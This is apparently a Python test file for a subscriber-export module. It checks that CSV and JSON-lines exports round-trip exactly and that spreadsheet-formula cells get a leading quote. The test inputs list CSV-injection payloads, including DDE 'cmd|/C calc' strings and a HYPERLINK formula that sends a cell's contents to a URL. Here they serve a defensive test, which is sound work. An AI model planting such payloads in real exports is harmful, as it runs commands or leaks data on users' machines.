"""An export can be read back to the letter, and no cell of it is a formula."""

import csv
import io
import json
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from subscribers.exports import COLUMNS, as_csv, as_json_lines, guarded, unguarded
from subscribers.lifecycle import Status
from subscribers.records import Consent, Record, Suppressed

AT = datetime(2026, 3, 23, 6, 0, 0, 123456, tzinfo=UTC)
DANGEROUS = "=+-@\t\r\0＝＋－＠"

# The injection strings of OWASP's page and of Ghost's CVE-2024-34448, and their like.
FORMULAS = [
    "=cmd|'/C calc'!A0",
    "+44 161 496 0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com?"&A1,"click")',
    "=1+1",
    "\t=1",
    "\r=1",
    "\0=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1",
    "''=1",
]

RECORD = Record(
    id=7,
    email="ada@example.org",
    name='Ada "the first" Lovelace, née Byron',
    status=Status.SUBSCRIBED,
    status_at=AT,
    created_at=AT,
    tags=("beta", "early bird"),
    fields={"city": "=New York", "plan": "pro"},
    consent=(
        Consent("attested", "news", "paper form", AT, {"note": 'said "yes"'}),
        Consent("lifted", None, "", AT, {}),
    ),
    suppressions=(Suppressed("bounced", AT, "5.1.1"), Suppressed("operator", AT, "")),
)


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_run_begins_with_a_quote(cell: str) -> None:
    assert guarded(cell) == f"'{cell}"
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize("cell", ["", "'", "O'Hara", "'quoted'", "a=b", " =1", "1-2", "''", "ada@example.org"])
def test_a_harmless_cell_stays_as_it_is(cell: str) -> None:
    assert guarded(cell) == cell
    assert unguarded(cell) == cell


@given(st.text() | st.text(alphabet=f"'{DANGEROUS}x", max_size=5))
def test_guarding_loses_nothing_and_leaves_no_formula(cell: str) -> None:
    assert unguarded(guarded(cell)) == cell
    assert guarded(cell)[:1] not in set(DANGEROUS)


def test_a_csv_says_everything_and_quotes_every_cell() -> None:
    header, row = as_csv([RECORD], ["city", "plan", "size"])
    assert header == (
        '"email","name","status","status_at","suppressed","tags","created_at","consent","suppressions",'
        '"field:city","field:plan","field:size"\r\n'
    )
    (cells,) = csv.reader([row])
    consent, suppressions = cells[7:9]
    assert cells[:7] + cells[9:] == [
        "ada@example.org",
        'Ada "the first" Lovelace, née Byron',
        "subscribed",
        "2026-03-23T06:00:00.123456+00:00",
        "bounced,operator",
        "beta,early bird",
        "2026-03-23T06:00:00.123456+00:00",
        "'=New York",
        "pro",
        "",
    ]
    at = "2026-03-23T06:00:00.123456+00:00"
    assert json.loads(consent) == [
        {
            "action": "attested",
            "newsletter": "news",
            "source": "paper form",
            "at": at,
            "evidence": {"note": 'said "yes"'},
        },
        {"action": "lifted", "newsletter": None, "source": "", "at": at, "evidence": {}},
    ]
    assert json.loads(suppressions) == [
        {"reason": "bounced", "at": at, "note": "5.1.1"},
        {"reason": "operator", "at": at, "note": ""},
    ]


def test_a_line_of_json_says_the_same() -> None:
    (line,) = as_json_lines([RECORD])
    said = json.loads(line)
    assert line.count("\n") == 1
    assert said.keys() == {*COLUMNS, "fields"}
    assert (said["tags"], said["fields"], said["suppressed"]) == (
        ["beta", "early bird"],
        {"city": "=New York", "plan": "pro"},
        ["bounced", "operator"],
    )
    assert [event["action"] for event in said["consent"]] == ["attested", "lifted"]


def test_an_export_of_nobody_still_says_what_it_is() -> None:
    assert list(as_csv([], [])) == [",".join(f'"{name}"' for name in COLUMNS) + "\r\n"]
    assert list(as_json_lines([])) == []


@given(st.text(st.characters(codec="utf-8")), st.text(st.characters(codec="utf-8")))
def test_no_text_breaks_out_of_its_cell(name: str, value: str) -> None:
    record = RECORD._replace(name=name, fields={"city": value})
    text = "".join(as_csv([record, RECORD], ["city"]))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [len(row) for row in rows] == [10, 10, 10]
    assert [unguarded(rows[1][1]), unguarded(rows[1][9])] == [name, value]
